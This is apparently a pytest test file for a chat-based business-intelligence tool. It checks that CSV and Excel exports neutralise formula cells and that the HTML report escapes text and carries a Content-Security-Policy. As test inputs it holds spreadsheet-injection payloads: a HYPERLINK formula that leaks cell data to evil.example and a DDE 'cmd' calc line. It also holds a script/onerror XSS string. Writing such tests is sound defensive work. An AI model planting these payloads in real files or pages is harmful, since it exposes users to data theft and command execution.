"""Exports (CSV, Excel) and the one-page HTML report, on real answers."""

from __future__ import annotations

import base64
import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from assistant.cli import app
from assistant.export import export_answer, neutralise, to_csv, to_excel
from assistant.report import render_report
from assistant.service import ChatBI
from semantic_layer.query import SemanticQuery

NASTY = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
         "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def bi(demo_db: Path) -> ChatBI:
    return ChatBI(demo_db)


@pytest.fixture(scope="module")
def region(bi: ChatBI) -> Any:
    return bi.run(SemanticQuery.model_validate(
        {"metrics": ["revenue"], "dimensions": ["region"], "time": {"start": "2025-01-01", "end": "2025-12-31"}}),
        question="2025年各地区的销售额", lang="zh")


@pytest.fixture(scope="module")
def rfm(bi: ChatBI) -> Any:
    return bi.run(SemanticQuery(analysis="rfm"), question="RFM分析", lang="zh")


# --- CSV -------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", NASTY, ids=["equals", "plus", "minus", "at", "tab", "carriage_return"])
def test_csv_neutralises_formula_cells(cell: str) -> None:
    data = to_csv(["name", "value"], [[cell, 1]])
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens UTF-8 Chinese correctly
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + cell and rows[1][1] == "1"


def test_csv_keeps_numbers_and_plain_text() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(["a", "b", "c"], [["华东", -5.5, None]]).decode("utf-8-sig"))))
    assert rows == [["a", "b", "c"], ["华东", "-5.5", ""]]
    assert neutralise(-3) == -3 and neutralise("normal") == "normal"


def test_csv_of_an_answer_with_labels(bi: ChatBI, region: Any) -> None:
    data = to_csv(region.columns, region.rows, bi.output_columns(region), region.lang)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["地区", "销售额"]
    assert {r[0] for r in rows[1:]} == {"华东", "华北", "华南", "华中", "西南", "西北", "东北"}
    assert sorted(float(r[1]) for r in rows[1:]) == sorted(r[1] for r in region.rows)
    raw = list(csv.reader(io.StringIO(to_csv(region.columns, region.rows).decode("utf-8-sig"))))
    assert raw[0] == ["region", "revenue"] and "East" in {r[0] for r in raw[1:]}


# --- Excel -----------------------------------------------------------------------------------


def test_excel_is_readable_and_typed(bi: ChatBI, region: Any, tmp_path: Path) -> None:
    path = export_answer(region, tmp_path / "out.xlsx", bi.output_columns(region))
    wb = load_workbook(path)
    ws = wb["结果"]
    assert [c.value for c in ws[1]] == ["地区", "销售额"]
    body = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    assert len(body) == len(region.rows)
    assert {r[0] for r in body} >= {"华东", "西北"}
    assert all(isinstance(r[1], float) for r in body)
    assert ws.cell(2, 2).number_format == '"¥"#,##0.00'
    notes = {r[0].value: r[1].value for r in wb["说明"].iter_rows()}
    assert "SELECT" in notes["SQL"] and notes["问题"] == "2025年各地区的销售额"
    assert any("数据截止日: 2025-12-31" in str(v) for v in notes.values())


def test_excel_never_writes_formulas(tmp_path: Path) -> None:
    data = to_excel(["name", "n"], [[cell, i] for i, cell in enumerate(NASTY)])
    ws = load_workbook(io.BytesIO(data)).active
    for i, cell in enumerate(NASTY, start=2):
        # a string cell, never a formula (XML stores a carriage return as a newline)
        assert ws.cell(i, 1).data_type == "s" and ws.cell(i, 1).value == cell.replace("\r", "\n")
        assert ws.cell(i, 2).data_type == "n"


def test_export_answer_by_suffix(region: Any, tmp_path: Path) -> None:
    csv_path = export_answer(region, tmp_path / "out.csv")
    assert csv_path.read_bytes().decode("utf-8-sig").splitlines()[0] == "region,revenue"
    with pytest.raises(ValueError, match="csv or .xlsx"):
        export_answer(region, tmp_path / "out.txt")


# --- report ----------------------------------------------------------------------------------


class _Page(HTMLParser):
    """Sections by id with their text, images, list items and table rows."""

    def __init__(self) -> None:
        super().__init__()
        self.sections: dict[str, list[str]] = {}
        self.images: list[dict[str, str]] = []
        self.tags: list[str] = []
        self.rows = 0
        self.items = 0
        self._section: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        self.tags.append(tag)
        if tag == "section":
            self._section = a.get("id")
            self.sections[self._section or ""] = []
        elif tag == "img":
            self.images.append(a)
        elif tag == "tr" and self._section == "table":
            self.rows += 1
        elif tag == "li" and self._section == "suggestions":
            self.items += 1

    def handle_data(self, data: str) -> None:
        if self._section:
            self.sections[self._section].append(data)

    def text(self, section: str) -> str:
        return "".join(self.sections[section])


def _parse(html_text: str) -> _Page:
    page = _Page()
    page.feed(html_text)
    return page


def test_report_has_every_part(bi: ChatBI, rfm: Any) -> None:
    page = _parse(render_report(rfm, bi.output_columns(rfm)))
    assert {"narrative", "chart", "suggestions", "table", "definitions"} <= set(page.sections)
    assert page.text("narrative").strip() == "解读" + rfm.narrative
    assert page.rows == len(rfm.rows) + 1  # header row
    assert page.items == len(rfm.suggestions) and "专属客户经理" in page.text("suggestions")
    assert "重要价值客户" in page.text("table") and "¥" in page.text("table")
    defs = page.text("definitions")
    assert "时间范围: 全部时间" in defs and "数据截止日: 2025-12-31" in defs
    assert "segment_customers" in defs and "SELECT" in defs
    assert "script" not in page.tags
    src = page.images[0]["src"]
    assert src.startswith("data:image/svg+xml;base64,")
    svg = base64.b64decode(src.split(",", 1)[1]).decode("utf-8")
    assert "重要价值客户" in svg and "WenQuanYi Micro Hei" in svg


def test_report_escapes_all_text(bi: ChatBI) -> None:
    evil = "<script>alert('x')</script><img src=x onerror=alert(1)>"
    answer = bi.run(SemanticQuery(metrics=["revenue"], dimensions=["region"]), question=evil, lang="zh")
    html_text = render_report(answer)
    assert "<script>" not in html_text and "onerror=alert(1)>" not in html_text
    assert "&lt;script&gt;" in html_text
    page = _parse(html_text)
    assert "script" not in page.tags and len(page.images) == 1  # only the chart
    assert "Content-Security-Policy" in html_text


def test_report_png_chart(region: Any) -> None:
    page = _parse(render_report(region, chart_format="png"))
    src = page.images[0]["src"]
    assert src.startswith("data:image/png;base64,")
    assert base64.b64decode(src.split(",", 1)[1])[:8] == b"\x89PNG\r\n\x1a\n"


def test_report_is_deterministic(bi: ChatBI, region: Any) -> None:
    cols = bi.output_columns(region)
    assert render_report(region, cols) == render_report(region, cols)


def test_report_of_a_refusal(bi: ChatBI) -> None:
    answer = bi.ask("删除2024年的所有订单")
    page = _parse(render_report(answer))
    assert answer.status == "refused" and "chart" not in page.sections and page.images == []


def test_cli_ask_writes_the_report(demo_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CHATBI_HOME", str(tmp_path / "home"))
    out = tmp_path / "report.html"
    result = CliRunner().invoke(app, ["ask", "2025年各地区的销售额", "--json", "--db", str(demo_db),
                                      "--report", str(out)])
    assert result.exit_code == 0, result.output
    answer = json.loads(result.stdout)  # the report notice goes to stderr; stdout stays JSON
    page = _parse(out.read_text(encoding="utf-8"))
    assert page.text("narrative").strip() == "解读" + answer["narrative"]
    assert "华东" in page.text("table") and "地区" in page.text("table")
    assert page.images and page.images[0]["src"].startswith("data:image/svg+xml;base64,")
